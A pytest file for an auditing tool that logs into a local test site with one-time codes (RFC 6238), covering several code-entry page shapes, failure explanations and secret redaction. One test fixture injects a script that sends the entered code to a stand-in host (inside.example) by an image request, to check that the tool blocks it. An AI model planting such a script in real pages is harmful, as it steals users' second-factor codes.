"""A second factor: one-time codes (RFC 6238), asked for in several shapes by a real server, in real Chromium."""

from __future__ import annotations

import asyncio
import base64
import re
import secrets
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from auditor.capture import Browser
from auditor.capture.base.one_time_codes import CodeSecret, code_of_step, parse_code_secret, step_at
from auditor.capture.base.used_codes import UsedCodes
from auditor.capture.interaction.step_runner import RESTLESS_SECONDS
from auditor.clock import now
from auditor.model.captures import Capture, Circumstance
from auditor.model.targets.deployments import Condition, Login
from auditor.reading import SnapshotProbe
from tests.capture.folder_stage import FolderStage
from tests.capture.misbehaving_site import HEAD, SESSION, Handler, Site, registration, serving
from tests.capture.visit_helpers import CLEAN, REGISTRATION, SETTINGS, deployment, visit
from tests.story.unpacking import forms, unpacked

RIGHT_CLOCK = replace(CLEAN, checks=(*CLEAN.checks, Circumstance("clock", "passed", "time.example +0.001 s", "right")))
LOGIN = Login("/login", "SITE_USER", "SITE_PASSWORD", totp="SITE_TOTP", logged_in=Condition(text="退出登录"))
BOXES = "<input maxlength=1 size=1>" * 6
JOINED = (
    "<script>const boxes = [...document.querySelectorAll('input[maxlength]')];"
    "document.querySelector('form').onsubmit = () => {"
    "document.querySelector('[name=code]').value = boxes.map(b => b.value).join('')}</script>"
)
SHAPES = {
    "one field": "<form method=post>动态口令 <input name=code><button>验证</button></form>",
    "told by its purpose": "<form method=post><input name=code autocomplete=one-time-code><button>OK</button></form>",
    "a field for each digit": f"<form method=post>两步验证<div>{BOXES}</div><input type=hidden name=code>"
    f"<button>确认</button></form>{JOINED}",
    "sent by itself": "<form method=post>One-time password <input name=code maxlength=6></form><script>"
    "document.querySelector('input').oninput = e => e.target.value.length == 6 && e.target.form.submit()</script>",
    "sent by itself a little later": "<form method=post>One-time password <input name=code maxlength=6></form><script>"
    "const form = document.querySelector('form');"
    "form.oninput = e => e.target.value.length == 6 && setTimeout(() => form.submit(), 300)</script>",
    "sent by a script": "<form>动态口令 <input name=code><button>验证</button></form><script>"
    "document.querySelector('form').onsubmit = e => {e.preventDefault(); const body = new URLSearchParams("
    "new FormData(e.target)); fetch('/second', {method: 'POST', body}).then(() => location = '/desk')}</script>",
    "of a page that asks without end": "<form method=post>动态口令 <input name=code><button>验证</button></form>"
    "<script>(function poll() { fetch('/poll').finally(poll) })()</script>",
    "of a page that asks without end from then on": "<form method=post>动态口令 <input name=code><button>验证</button>"
    "</form><script>const poll = () => fetch('/poll', {method: 'POST'}).finally(poll);"
    "document.querySelector('input').addEventListener('input', poll, {once: true})</script>",
    "sent by a script, answered at length": "<p>动态口令 <input name=code><button>验证</button><script>"
    "const field = document.querySelector('input');"
    "const send = () => fetch('/second', {method: 'POST', body: new URLSearchParams({code: field.value})})"
    ".then(answer => { if (answer.url.endsWith('/desk')) location = '/desk' });"
    "field.oninput = send; document.querySelector('button').onclick = send</script>",
    "beside the password": "",
}


@dataclass
class Door:
    """What the server knows: an account with a second factor, and which codes it was sent."""

    shape: str
    secret: CodeSecret
    sent: list[str] = field(default_factory=list)
    pending: str = field(default_factory=lambda: secrets.token_hex(12))

    def login(self, handler: Handler) -> None:
        given = {name: values[0] for name, values in parse_qs(handler.body).items()}
        beside = self.shape == "beside the password"
        if handler.command == "POST" and given.get("password") == handler.server.password:
            if beside:
                self.judge(handler, given.get("otp", ""))
            else:
                handler.redirect("/second", Set_Cookie=f"pending={self.pending}; Path=/")
            return
        more = "动态码 <input name=otp>" if beside else ""
        handler.answer(
            f"{HEAD}<body><form method=post>用户名 <input name=user>密码 <input type=password name=password>"
            f"{more}<button>登录</button></form>"
        )

    def second(self, handler: Handler) -> None:
        if self.pending not in handler.headers.get("Cookie", ""):
            handler.redirect("/login")
        elif handler.command == "POST":
            self.judge(handler, parse_qs(handler.body).get("code", [""])[0])
        else:
            handler.answer(HEAD + "<body>" + SHAPES[self.shape])

    def judge(self, handler: Handler, code: str) -> None:
        if "later" in self.shape:
            time.sleep(0.5)  # whoever presses beside the page is here with the same code before the page has left
        if "at length" in self.shape:
            time.sleep(RESTLESS_SECONDS + 1)
        step = step_at(self.secret, now().timestamp())
        used, self.sent = code in self.sent, [*self.sent, code]
        if not used and code in {code_of_step(self.secret, near) for near in (step - 1, step, step + 1)}:
            handler.redirect("/desk", Set_Cookie=f"sid={SESSION}; HttpOnly; Path=/")
        else:
            handler.answer(f"{HEAD}<body><p>{code} 不正确{SHAPES[self.shape]}")


def poll(handler: Handler) -> None:
    time.sleep(0.3)
    handler.answer("")


@contextmanager
def door(shape: str) -> Iterator[tuple[Site, Door, str]]:
    text = base64.b32encode(secrets.token_bytes(20)).decode()
    with serving() as site:
        made = Door(shape, parse_code_secret(text))
        site.acts |= {"/login": made.login, "/second": made.second, "/poll": poll}
        site.pages["/reg"] = registration()
        yield site, made, text


@dataclass
class Tried:
    """One visit through the door."""

    runner: asyncio.Runner
    browser: Browser
    folder: Path
    visits: int = 0

    def __call__(
        self, site: Site, totp: str | None, login: Login = LOGIN, ahead: float = 0.0
    ) -> tuple[Capture, FolderStage]:
        def clock() -> datetime:
            return now() + timedelta(seconds=ahead)

        self.visits += 1
        environment = {"SITE_USER": "auditor", "SITE_PASSWORD": site.password, **({"SITE_TOTP": totp} if totp else {})}
        return self.runner.run(
            visit(
                self.browser,
                deployment(site.url, login=login),
                [REGISTRATION],
                self.folder / f"visit-{self.visits}",
                environment=environment,
                circumstances=RIGHT_CLOCK,
                eyes=SnapshotProbe(),
                clock=clock,
            )
        )


@pytest.fixture
def tried(runner: asyncio.Runner, browser: Browser, tmp_path: Path) -> Tried:
    return Tried(runner, browser, tmp_path)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_code_is_sent_once_and_is_accepted(tried: Tried, shape: str) -> None:
    with door(shape) as (site, made, text):
        capture, stage = tried(site, f"{text[:4].lower()} {text[4:]}")
        assert [(view.outcome, view.why) for view in capture.views] == [("observed", "")]
        assert len(made.sent) == 1
        for path, data in stage.disclosable().items():
            for inner in unpacked(data):
                assert not [one for secret in (text, site.password) for one in forms(secret) if one in inner], path


def test_a_code_goes_to_no_undeclared_origin(runner: asyncio.Runner, mapped: Browser, tmp_path: Path) -> None:
    with serving() as stranger, door("one field") as (site, made, text):
        there = f"http://inside.example:{stranger.server_port}/seen.gif?c="
        told = (
            f"<script>document.querySelector('form').onsubmit = e => {{ new Image().src = '{there}'"
            " + document.querySelector('[name=code]').value }</script>"
        )
        shape = SHAPES["one field"] + told
        site.acts["/second"] = lambda handler: (
            made.second(handler) if handler.command == "POST" else handler.answer(HEAD + "<body>" + shape)
        )
        capture, _ = Tried(runner, mapped, tmp_path)(site, text)
        assert stranger.seen == []
        assert [(view.outcome, view.why) for view in capture.views] == [("observed", "")]
        assert any("credentials towards http://inside.example" in one for one in capture.warnings), capture.warnings


def test_a_wrong_secret_is_refused_with_what_the_clocks_say(tried: Tried) -> None:
    with door("one field") as (site, made, _):
        capture, stage = tried(site, base64.b32encode(secrets.token_bytes(20)).decode())
        (view,) = capture.views
        assert view.outcome == "login_refused"
        assert view.why == (
            "The one-time code was not accepted. This machine's clock is right, so it is another account's secret, or "
            "the code was used before."
        )
        (code,) = made.sent
        assert view.artefacts, "the page that refused it is kept"
        assert not [
            path for path, data in stage.disclosable().items() for one in unpacked(data) if code.encode() in one
        ]


def test_a_wrong_clock_is_said_as_the_likely_reason(tried: Tried) -> None:
    with door("one field") as (site, _, text):
        (view,) = tried(site, text, ahead=95.0)[0].views
        assert view.outcome == "login_refused"
        assert re.search(r"clock is about (9[4-9]|1\d\d) s ahead of the server's, which is the likely reason", view.why)


def test_a_code_that_was_not_sent_is_said_to_be_that(tried: Tried) -> None:
    """The page asks without end, and asks for the code when the time is almost over."""
    with door("of a page that asks without end") as (site, made, text):
        late = (
            SHAPES[made.shape]
            .replace("<form", "<form hidden")
            .replace(
                "<script>",
                f"<script>setTimeout(() => document.forms[0].hidden = false, {SETTINGS.settle_seconds * 700});",
            )
        )
        site.acts["/second"] = lambda handler: handler.answer(f"{HEAD}<body><p>请稍候{late}")
        (view,) = tried(site, text)[0].views
        assert (view.outcome, made.sent) == ("not_logged_in", [])
        assert view.why == "The page asks for a one-time code and did not come to rest within 3 s: none was sent."


def test_a_code_that_is_not_answered_is_said_to_be_that(tried: Tried) -> None:
    with door("sent by a script, answered at length") as (site, made, text):

        def silent(handler: Handler) -> None:
            if handler.command == "POST":
                site.closing.wait(20)
            else:
                made.second(handler)

        site.acts["/second"] = silent
        (view,) = tried(site, text)[0].views
        assert (view.outcome, view.why) == ("not_logged_in", "The one-time code was not answered within 3 s.")
        assert [path for method, path, _ in site.seen if method == "POST"] == ["/login", "/second"]


def test_a_missing_or_unusable_secret_is_said_before_anything_is_asked(tried: Tried) -> None:
    with door("one field") as (site, _, _):
        (missing,) = tried(site, None)[0].views
        assert (missing.outcome, missing.why) == (
            "no_credentials",
            "Not visited: SITE_TOTP is not set in the environment.",
        )
        (unusable,) = tried(site, "not base32 at all!")[0].views
        assert unusable.outcome == "no_credentials" and "is not base32" in unusable.why
        assert site.seen == []
        (unnamed,) = tried(site, None, replace(LOGIN, totp=None))[0].views
        assert unnamed.outcome in ("login_refused", "not_logged_in")


@pytest.mark.parametrize(
    ("algorithm", "length", "at", "code"),
    [
        ("SHA1", 20, 59, "94287082"),
        ("SHA256", 32, 59, "46119246"),
        ("SHA512", 64, 59, "90693936"),
        ("SHA1", 20, 1111111109, "07081804"),
        ("SHA256", 32, 1111111111, "67062674"),
        ("SHA512", 64, 1234567890, "93441116"),
        ("SHA1", 20, 20000000000, "65353130"),
        ("SHA512", 64, 20000000000, "47863826"),
    ],
)
def test_the_codes_are_those_of_the_standard(algorithm: str, length: int, at: int, code: str) -> None:
    """RFC 6238, appendix B."""
    key = base64.b32encode((b"1234567890" * 7)[:length]).decode().rstrip("=")
    secret = parse_code_secret(f"otpauth://totp/x:y?secret={key}&digits=8&algorithm={algorithm}&issuer=x")
    assert code_of_step(secret, step_at(secret, at)) == code


@pytest.mark.parametrize(
    "text", ["", "abc", "1" * 32, "otpauth://hotp/x?secret=" + "A" * 32, f"otpauth://totp/x?secret={'A' * 32}&digits=9"]
)
def test_what_is_no_secret_is_refused_without_repeating_it(text: str) -> None:
    with pytest.raises(ValueError, match=r"base32|80 bits|otpauth") as error:
        parse_code_secret(text)
    assert not text or text not in str(error.value)


def test_no_code_is_given_twice(runner: asyncio.Runner) -> None:
    secret = replace(parse_code_secret("A" * 32), period=1)
    used = UsedCodes()

    async def three() -> set[str]:
        return {await used.next(secret, now) for _ in range(3)}

    assert len(runner.run(three())) == 3
